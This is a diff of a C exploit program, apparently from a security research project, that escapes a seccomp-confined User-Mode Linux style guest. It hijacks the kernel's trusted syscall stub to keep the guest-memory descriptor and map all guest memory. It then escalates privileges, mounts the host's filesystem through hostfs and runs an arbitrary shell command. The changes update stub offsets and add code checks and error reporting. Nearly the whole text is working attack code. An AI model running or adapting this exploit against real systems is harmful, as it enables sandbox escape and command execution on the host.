@@ -5,11 +5,12 @@
    The kernel has its processes held by a seccomp filter, or by ptrace. The filter allows the stub's own system calls, and can't
    know who jumped there. The stub receives the descriptor of the guest's memory when the kernel maps a page. This program
    prepares the stub's registers, stack and shared page in such a way that the stub keeps this descriptor, maps all memory
-   with it and returns here. With ptrace, the kernel sees each of these calls, and takes it for a call of this process. All
-   offsets are those of the kernel that guest/Dockerfile built until 25 November 2026; a control in a guest with seccomp tells
-   whether they are still right.
+   with it and returns here. With ptrace, the kernel sees each of these calls, and ends the process. All
+   offsets are those of the kernel that guest/Dockerfile builds since 26 November 2026; the program compares the code there,
+   and a control in a guest with seccomp tells whether they are still right.
 
-   stdout has a line for each success. Exit codes: 0: the memory was reached; 2: no stub was found. Else a signal ends it. */
+   stdout has a line for each success, stderr one for each failure. Exit codes: 0: all was tried; 2: no stub was found; 3: the stub has
+   other code. Else a signal ends it. */
 #define _GNU_SOURCE
 #include <fcntl.h>
 #include <setjmp.h>
@@ -33,9 +34,11 @@
 #define GAP (1040ul << 20)             /* that the memory has besides MemTotal (hooks.patch) */
 
 /* struct stub_data of this kernel: offsets, and places in the code of the stub */
-enum { RESTART = 0xf38, FUTEX = 0xf3c, SIGNAL = 0xf40, CONTEXT = 0xf46, STACK = 0x1000 };
-enum { WAIT = 0x190, MAP = 0x438 };
+enum { FUTEX = 0xf3c, SIGNAL = 0xf40, CONTEXT = 0xf46, STACK = 0x1000 };
+enum { WAIT = 0x1bf, MAP = 0x303 };
 static const unsigned char code[] = {0x41, 0x55, 0x41, 0x54, 0x55, 0x53, 0x48, 0x8d, 0x05, 0, 0, 0, 0, 0x48, 0x25, 0, 0xf0, 0xff, 0xff};
+static const unsigned char code_wait[] = {0x41, 0xc7, 0x85, 0x3c, 0x0f, 0, 0, 1, 0, 0, 0}; /* movl $1, 0xf3c(%r13) */
+static const unsigned char code_map[] = {0x0f, 0x05, 0x48, 0x89, 0xc6, 0x48, 0x3b, 0x45, 0}; /* syscall; mov %rax, %rsi; cmp 0(%rbp), %rax */
 
 static char *stub, *shared;
 static sigjmp_buf after_fault;
@@ -50,7 +53,7 @@ static void skip(int number, siginfo_t *about, void *context) {
     greg_t *at = &((ucontext_t *)context)->uc_mcontext.gregs[REG_RSI];
     (void)number, (void)about;
     *at += 3 * PAGE; /* code, and two pages of data */
-    if (++faults % 200000 == 0) usleep(20000); /* a guest whose clock stands still is ended */
+    if (++faults % 50000 == 0) usleep(100000); /* a guest whose clock stands still is ended */
     if (*at >= 0x7ffffffff000) siglongjmp(after_fault, 1);
 }
 
@@ -97,7 +100,7 @@ static char *const top = area + 2 * PAGE; /* the stub's stack pointer */
 
 static void put(long offset, uint64_t value) { memcpy(top + offset, &value, sizeof value); }
 
-/* Makes the kernel map a page, and keeps the descriptor with which the stub maps it. Returns it. */
+/* Makes the kernel map a page, and keeps the descriptor with which the stub maps it. Returns it; -1: none came. */
 static int keep_descriptor(void) {
     static char control[256] __attribute__((aligned(16)));
     static char byte;
@@ -108,7 +111,7 @@ static int keep_descriptor(void) {
     vector[1] = 1;
     memset(control, 0xff, sizeof control);
     memset(area, 0, sizeof area);
-    kept = 1; /* a page fault from here on would change the shared page */
+    kept = 1; /* a page fault or a system call from here on would change the shared page */
     getppid(); /* the shared page now has the whole context of a signal */
     memcpy(&offset, shared + CONTEXT, sizeof offset);
     greg_t *registers = (greg_t *)(shared + STACK + offset);
@@ -116,29 +119,33 @@ static int keep_descriptor(void) {
     registers[REG_ERR] = 6; /* a write in user mode */
     registers[REG_CR2] = (greg_t)fresh;
     *(int *)(shared + SIGNAL) = SIGSEGV;
-    put(-0x40, 99); /* another number of bytes than the stub receives: it then closes no descriptor */
-    put(-8, (uint64_t)vector); /* struct msghdr begins at -0x18 */
-    put(0, 1);
-    put(8, (uint64_t)control);
-    put(0x10, sizeof control);
-    struct registers set = {.rbp = 202, .rbx = 1, .r12 = (uint64_t)shared + FUTEX, .r15 = (uint64_t)shared};
+    put(-0x10, 99); /* another number of bytes than the stub receives: it then closes no descriptor */
+    put(-0x40, (uint64_t)vector); /* struct msghdr begins at -0x50 */
+    put(-0x38, 1);
+    put(-0x30, (uint64_t)control);
+    put(-0x28, sizeof control);
+    struct registers set = {.rbp = (uint64_t)shared + FUTEX, .rbx = 1, .r12 = SYS_futex, .r13 = (uint64_t)shared, .r14 = 0};
     jump(&set, top, stub + WAIT);
     return *(int *)(control + 16);
 }
 
-/* Calls mmap in the stub, where the filter allows it. */
-static void map(int descriptor, size_t size) {
-    static uint64_t entry[8], none[1024];
-    memset(none, 0, sizeof none);
+/* Calls mmap in the stub, where the filter allows it, for memory at ALL. Returns 0, or the error (negative). */
+static long map(size_t size, int flags, int descriptor) {
+    static uint64_t entry[8], status[4];
+    static char *pages;
+    if (!pages) {
+        pages = mmap(NULL, 2 * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+        mprotect(pages, PAGE, PROT_READ);
+    }
+    memset(area, 0, sizeof area);
+    memset(status, 0, sizeof status); /* of the stub's calls: it says that no further one is due */
     entry[0] = (uint64_t)ALL;
-    put(-0x78, (uint64_t)none);
-    put(-0x70, (uint64_t)none);
-    put(-0x68, 0);
-    put(-0x60, (uint64_t)none);
-    put(-0x58, 0);
-    struct registers set = {.rax = 9, .rdi = (uint64_t)ALL, .rsi = size, .rdx = PROT_READ | PROT_WRITE,
-        .r10 = MAP_SHARED | MAP_FIXED, .r8 = descriptor, .r14 = (uint64_t)entry, .r15 = 0};
-    jump(&set, top, stub + MAP);
+    put(-0x60, (uint64_t)pages + PAGE - SIGNAL - 4); /* a failure writes at SIGNAL, which may only be read; success writes behind it */
+    struct registers set = {.rax = SYS_mmap, .rdi = (uint64_t)ALL, .rsi = size, .rdx = PROT_READ | PROT_WRITE, .r10 = flags | MAP_FIXED,
+        .r8 = descriptor, .rbp = (uint64_t)entry, .r15 = (uint64_t)status};
+    signal(SIGSEGV, fault);
+    if (sigsetjmp(after_fault, 1) == 0) jump(&set, top, stub + MAP);
+    return status[0];
 }
 
 static void reached(const char *what) {
@@ -158,10 +165,9 @@ static void try_calls(void) {
     for (int descriptor = 0; descriptor < 16; descriptor++) {
         if (fork() == 0) {
             for (int open = 0; open < 1024; open++) close(open);
-            map(descriptor, 1 << 20);
-            _exit(ALL[0] ? 7 : 8);
+            _exit(map(1 << 20, MAP_SHARED, descriptor) == 0 ? 7 : 0);
         }
-        if (wait((int *)&status) > 0 && WIFEXITED((int)status) && WEXITSTATUS((int)status) >= 7) reached("a descriptor of the stub");
+        if (wait((int *)&status) > 0 && WIFEXITED((int)status) && WEXITSTATUS((int)status) == 7) reached("a descriptor of the stub");
     }
 }
 
@@ -187,20 +193,35 @@ static void rise(size_t size) {
     }
 }
 
-int main(int count, char **words) {
+static void attack(const char *command) {
     char line[256];
     size_t size = 0;
-    if (!find_stub((char *)0x7ffbff000000)) return 2;
-    try_calls();
     FILE *file = fopen("/proc/meminfo", "r");
     while (file && fgets(line, sizeof line, file)) sscanf(line, "MemTotal: %lu", &size);
     size = size * 1024 + GAP;
-    map(keep_descriptor(), size);
+    long status = map(PAGE, MAP_PRIVATE | MAP_ANONYMOUS, -1);
+    fprintf(stderr, "mmap in the stub: %ld\n", status);
+    int descriptor = keep_descriptor();
+    status = map(size, MAP_SHARED, descriptor);
+    fprintf(stderr, "descriptor %d, mmap of the memory: %ld\n", descriptor, status);
+    if (status) return;
     reached("all memory of the guest");
     rise(size);
-    if (count > 1 && mount("none", "/mnt", "hostfs", 0, "/") == 0) {
+    if (command && mount("none", "/mnt", "hostfs", 0, "/") == 0) {
         reached("the files of the guest's host");
-        execl("/bin/sh", "sh", "-c", words[1], NULL);
+        execl("/bin/sh", "sh", "-c", command, NULL);
     }
+}
+
+int main(int count, char **words) {
+    int status = 0;
+    if (!find_stub((char *)0x7ffbff000000)) return 2;
+    if (memcmp(stub + WAIT, code_wait, sizeof code_wait) || memcmp(stub + MAP, code_map, sizeof code_map)) return 3;
+    try_calls();
+    if (fork() == 0) {
+        attack(count > 1 ? words[1] : NULL);
+        _exit(0);
+    }
+    if (wait(&status) > 0 && WIFSIGNALED(status)) fprintf(stderr, "the process that called in the stub ended with signal %d\n", WTERMSIG(status));
     return 0;
 }
